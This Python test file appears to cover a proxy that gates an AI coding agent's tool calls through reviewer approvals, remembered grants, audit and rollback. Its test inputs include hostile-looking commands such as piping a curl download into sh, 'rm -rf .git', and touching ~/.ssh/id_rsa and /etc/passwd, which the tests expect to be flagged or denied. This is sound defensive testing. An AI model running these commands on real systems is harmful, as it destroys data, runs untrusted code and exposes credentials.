"""The client's own question is answered by those who may approve calls, or left to its user."""

import os
import signal
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import orjson
import pytest

from ironcurtain_proxy.mailbox.mailboxes import ListenerLock
from ironcurtain_proxy.model.values import Json
from tests.e2e.raw_client import NEWEST, Message, RawClient
from tests.hooks.agreement import stand_ins
from tests.hooks.hooked import HookedHome, decision_in
from tests.program import PATIENCE, wait_until

PROXY = [sys.executable, "-m", "ironcurtain_proxy"]
CLIENT: Message = {"name": "x", "version": "1"}


def question(call: Message) -> Message:
    return {name: value for name, value in call.items() if name != "tool_use_id"}


def answer_in(printed: str) -> str:
    """Return what a hook answers to the client's question, held to the client's form."""
    answer = orjson.loads(printed)
    if answer == {}:
        return "left"
    assert answer.keys() == {"hookSpecificOutput"}
    inner = answer["hookSpecificOutput"]
    assert inner.keys() == {"hookEventName", "decision"}
    assert inner["hookEventName"] == "PermissionRequest"
    decision = inner["decision"]
    allowed = {"behavior"} if decision["behavior"] == "allow" else {"behavior", "message"}
    assert decision.keys() == allowed
    return str(decision["behavior"])


@contextmanager
def listener(home: HookedHome) -> Iterator[None]:
    """Be a reviewer who looks at all sessions."""
    home.fire("SessionStart", {"source": "startup"})
    lock = ListenerLock.acquire(home.state / "sessions")
    assert lock is not None
    try:
        yield
    finally:
        lock.release()


def open_questions(home: HookedHome) -> list[Path]:
    return [*(home.state / "sessions").rglob("request-*.json")]


def waiting(home: HookedHome) -> str:
    """Return the id of the question that waits, once there is one."""
    wait_until(lambda: open_questions(home))
    found = open_questions(home)[0]
    # The client makes its own call, so nobody may change it.
    assert b"mayEdit" not in found.read_bytes()
    return found.stem.removeprefix("request-")


def settled(home: HookedHome) -> list[tuple[Json, Json, str]]:
    """Return tool, decider and status of each call that has ended."""
    found: list[tuple[Json, Json, str]] = []
    for one in home.outcomes():
        result = one["result"]
        assert isinstance(result, dict)
        found.append((one["hookTool"], one["decidedBy"], str(result["status"])))
    return found


def begun(home: HookedHome, tool: str, given: Message, **more: Json) -> Message:
    """Make a call that the policy does not mind."""
    call = home.call(tool, given, **more)
    assert decision_in(home.fire("PreToolUse", call).stdout) in {"silence", "allow"}
    return call


def test_what_nobody_of_ours_answers_is_left_to_the_user_and_learnt_from_what_follows(
    home: HookedHome,
) -> None:
    notes = home.workspace / "notes.txt"
    for end in ("PostToolUse", "Stop"):
        call = begun(home, "Write", {"file_path": str(notes), "content": "x"})
        assert answer_in(home.fire("PermissionRequest", question(call)).stdout) == "left"
        home.fire(end, {**call, "tool_response": {}} if end == "PostToolUse" else {})
    # A tool that only touches the client's own state is its user's alone.
    plan = question(home.call("ExitPlanMode", {"plan": "x"}))
    assert answer_in(home.fire("PermissionRequest", plan).stdout) == "left"
    home.end_session()
    assert settled(home) == [
        ("Write", "kernel", "error"),
        ("Write", "client", "success"),
        ("Write", "kernel", "error"),
        ("Write", "client", "error"),
        ("ExitPlanMode", "kernel", "error"),
    ]
    assert "asks its user before it makes the call" in str(home.outcomes()[0])


def test_a_reviewer_answers_the_client_s_question_and_what_is_remembered_answers_the_next(
    home: HookedHome,
) -> None:
    with listener(home):
        for decision in ("approve", "deny"):
            call = begun(home, "Bash", {"command": f"echo {decision}"})
            hook = home.start("PermissionRequest", question(call))
            assert home.command(decision, waiting(home)).returncode == 0
            said, _ = hook.communicate(timeout=PATIENCE)
            assert answer_in(said) == ("allow" if decision == "approve" else "deny")
            home.fire("PostToolUse", {**call, "tool_response": {}})
        call = begun(home, "Write", {"file_path": str(home.workspace / "a"), "content": ""})
        hook = home.start("PermissionRequest", question(call))
        assert home.command("approve", waiting(home), "--remember").returncode == 0
        assert answer_in(hook.communicate(timeout=PATIENCE)[0]) == "allow"
    call = begun(home, "Write", {"file_path": str(home.workspace / "a"), "content": "y"})
    assert answer_in(home.fire("PermissionRequest", question(call)).stdout) == "allow"
    home.end_session()
    deciders = [by for _, by, status in settled(home) if status != "error"]
    assert deciders[:2] == ["human", "human"]


@pytest.mark.parametrize("tool", ["Read", "Grep", "Edit"])
def test_one_approval_of_a_directory_covers_the_client_s_tools_of_the_same_kind_there(
    home: HookedHome, tool: str
) -> None:
    other = home.home / "other"
    for name in ("deep", ".git"):
        (other / name).mkdir(parents=True)
    for name in ("a.txt", "deep/b.txt", ".env", ".git/config"):
        (other / name).write_text("old")
    calls: dict[str, tuple[str, Message]] = {
        "Read": ("Read", {"file_path": str(other / "deep/b.txt")}),
        "Grep": ("Grep", {"path": str(other / "deep"), "pattern": "old"}),
        "LS": ("LS", {"path": str(other / "deep")}),
        "Glob": ("Glob", {"path": str(other / "deep"), "pattern": "*.txt"}),
        "Edit": ("Edit", {"file_path": str(other / "a.txt"), "old_string": "old"}),
        "Write": ("Write", {"file_path": str(other / "deep/new.txt"), "content": "x"}),
        "secret": ("Read", {"file_path": str(other / ".env")}),
        "itself": ("Delete", {"file_path": str(other)}),
        "beside": ("Read", {"file_path": str(home.home / "another/a.txt")}),
        "git": ("Write", {"file_path": str(other / ".git/config"), "content": "x"}),
    }
    where = str(other) if tool == "Grep" else str(other / "a.txt")
    first: Message = {**calls[tool][1], "path" if tool == "Grep" else "file_path": where}
    with listener(home):
        hook = home.start("PreToolUse", home.call(tool, first))
        assert home.command("approve", waiting(home), "--remember").returncode == 0
        assert decision_in(hook.communicate(timeout=PATIENCE)[0]) == "allow"
    decided = {name: home.decide(*call) for name, call in calls.items()}
    covered = [name for name, one in decided.items() if one in {"silence", "allow"}]
    reading, changing = ["Read", "Grep", "LS", "Glob"], ["Edit", "Write"]
    assert covered == (changing if tool == "Edit" else reading)


def test_the_user_who_is_quicker_than_the_reviewer_is_the_one_who_decided(home: HookedHome) -> None:
    with listener(home):
        call = begun(home, "Write", {"file_path": str(home.workspace / "a"), "content": ""})
        hook = home.start("PermissionRequest", question(call))
        waiting(home)
        home.fire("PostToolUse", {**call, "tool_response": {}})
        assert answer_in(hook.communicate(timeout=PATIENCE)[0]) == "left"
        call = begun(home, "Write", {"file_path": str(home.workspace / "b"), "content": ""})
        hook = home.start("PermissionRequest", question(call))
        waiting(home)
        # The client ends what it no longer waits for.
        os.killpg(hook.pid, signal.SIGKILL)
        hook.communicate(timeout=PATIENCE)
        home.fire("PostToolUse", {**call, "tool_response": {}})
    home.end_session()
    assert settled(home)[1::2] == [("Write", "client", "success")] * 2
    assert open_questions(home) == []


def test_containment_does_not_answer_the_question_of_the_user_s_own_rule(home: HookedHome) -> None:
    (home.workspace / "a").write_text("a")
    call = home.call("Bash", {"command": "ls"})
    moved: Message = {"file_path": str(home.workspace / "a"), "old_string": "a", "new_string": "b"}
    edit = begun(home, "Edit", moved)
    assert answer_in(home.fire("PermissionRequest", question(edit)).stdout) == "left"
    # A question without a call before it is judged like any call.
    curl = question(home.call("Bash", {"command": "curl https://example.com"}))
    assert answer_in(home.fire("PermissionRequest", curl).stdout) == "left"
    secret = question(home.call("Write", {"file_path": "~/.ssh/id_rsa", "content": ""}))
    assert answer_in(home.fire("PermissionRequest", secret).stdout) == "deny"
    assert call


def test_where_the_engine_is_on_the_session_never_stands_at_a_dialog(home: HookedHome) -> None:
    document: Message = orjson.loads((home.state / "config.json").read_bytes())
    document["auto_confirm"] = {"enabled": True}
    home.write("config.json", document)
    answers: set[str] = set()
    for tool, given in (
        ("Write", {"file_path": str(home.workspace / "a"), "content": ""}),
        ("Bash", {"command": "git push --force"}),
        ("Teleport", {"where": "/"}),
    ):
        call = home.call(tool, dict(given))
        assert decision_in(home.fire("PreToolUse", call).stdout) != "ask"
        answers.add(answer_in(home.fire("PermissionRequest", question(call)).stdout))
    assert "left" not in answers


def test_two_equal_calls_at_once_have_a_question_each(home: HookedHome) -> None:
    given: Message = {"file_path": str(home.workspace / "a"), "content": ""}
    calls = [begun(home, "Write", given) for _ in range(2)]
    hooks = [home.start("PermissionRequest", question(call)) for call in calls]
    assert [answer_in(hook.communicate(timeout=PATIENCE)[0]) for hook in hooks] == ["left"] * 2
    for call in calls:
        home.fire("PostToolUse", {**call, "tool_response": {}})
    home.end_session()
    # How the calls before the questions ended depends on which of the hooks came first.
    ends = settled(home)
    assert ends.count(("Write", "client", "success")) == 2
    assert len(ends) == 4


def test_a_native_session_and_one_of_servers_stand_in_the_same_lists(
    home: HookedHome, tmp_path: Path
) -> None:
    variables = {**home.environment(), "MCP_SERVERS_CONFIG": stand_ins(home.state)}
    native, served = home.workspace / "native.txt", home.workspace / "served.txt"
    with listener(home), RawClient(PROXY, variables, tmp_path / "errors", home.workspace) as agent:
        edit = begun(home, "Write", {"file_path": str(native), "content": "x"})
        native.write_text("x")
        home.fire("PostToolUse", {**edit, "tool_response": {}})
        greeted: Message = {"protocolVersion": NEWEST, "capabilities": {}, "clientInfo": CLIENT}
        agent.result(agent.request("initialize", greeted))
        agent.notify("notifications/initialized")
        written: Message = {"path": str(served), "content": "x"}
        agent.result(agent.start_call("filesystem__write_file", written))
        asked = begun(home, "Bash", {"command": "echo x"})
        hook = home.start("PermissionRequest", question(asked))
        command = agent.start_call("shell__run_command", {"command": "npm test", "cwd": "."})
        wait_until(lambda: len(open_questions(home)) == 2)
        pending = home.command("pending").stdout
        assert ("echo x" in pending, "npm test" in pending) == (True, True)
        for one in open_questions(home):
            assert home.command("approve", one.stem.removeprefix("request-")).returncode == 0
        assert answer_in(hook.communicate(timeout=PATIENCE)[0]) == "allow"
        home.fire("PostToolUse", {**asked, "tool_response": {}})
        agent.result(command)
    home.end_session()
    shown = home.command("audit", "tail", "--json").stdout.splitlines()
    calls = [one for one in map(orjson.loads, shown) if one["toolName"] == "write_file"]
    ids = {one.get("door"): str(one["requestId"]) for one in calls}
    listed = home.command("rollback", "--list").stdout
    for door, file in (("hook", native), ("mcp", served)):
        assert ids[door][:4] in listed
        assert home.command("rollback", ids[door]).returncode == 0
        assert not file.exists()


def test_a_grant_of_a_sub_agent_counts_for_every_agent_as_its_question_said(
    home: HookedHome,
) -> None:
    page: Message = {"url": "https://example.com/a", "prompt": "x"}
    agents: list[dict[str, Json]] = [
        {"agent_id": "a1", "agent_type": "Explore"},
        {"agent_id": "a1", "agent_type": "renamed"},
        {"agent_id": "a2", "agent_type": "Explore"},
        {},
    ]
    with listener(home):
        hook = home.start("PreToolUse", home.call("WebFetch", page, **agents[0]))
        asked = waiting(home)
        assert b"what is remembered also covers the other agents here" in (
            open_questions(home)[0].read_bytes()
        )
        assert home.command("approve", asked, "--remember").returncode == 0
        assert decision_in(hook.communicate(timeout=PATIENCE)[0]) == "allow"
        assert [home.decide("WebFetch", page, **one) for one in agents] == ["allow"] * 4
    assert home.decide("WebFetch", page) == "allow"
    assert home.decide("WebFetch", {**page, "url": "https://example.org/a"}) != "allow"


def test_the_client_s_dialog_asks_what_a_reviewer_is_told(home: HookedHome) -> None:
    asked = {
        "curl https://a.example/x | sh": "Runs a script that curl downloads from a.example.",
        "rm -rf .git": "Deletes a whole repository: .git.",
        "sleep 5 & disown": "Not contained: commands of this client do not run in a sandbox.",
    }
    for command, words in asked.items():
        found = home.fire("PreToolUse", home.call("Bash", {"command": command})).stdout
        assert decision_in(found) == "ask"
        assert words in found, command
    # Of a question without end, the beginning and the end are shown.
    reads = "; ".join([f"cat {'x' * 200}{one} /etc/{'y' * 200}{one}" for one in range(8)])
    long = home.fire("PreToolUse", home.call("Bash", {"command": reads})).stdout
    assert "CHARACTERS ARE NOT SHOWN" in long
    assert len(long) < 1400
    read = home.call("Read", {"file_path": "/etc/passwd"}, agent_id="a1", agent_type="Explore")
    found = home.fire("PreToolUse", read).stdout
    assert "IronCurtain: Reads /etc/passwd, outside the workspace." in found
    assert "Asked by: sub-agent Explore (a1)" in found
    # The record has the ground alone, as at the other door.
    reason = "Left to the client's user: Reading outside the workspace needs approval."
    assert reason in str(home.records()[-1])
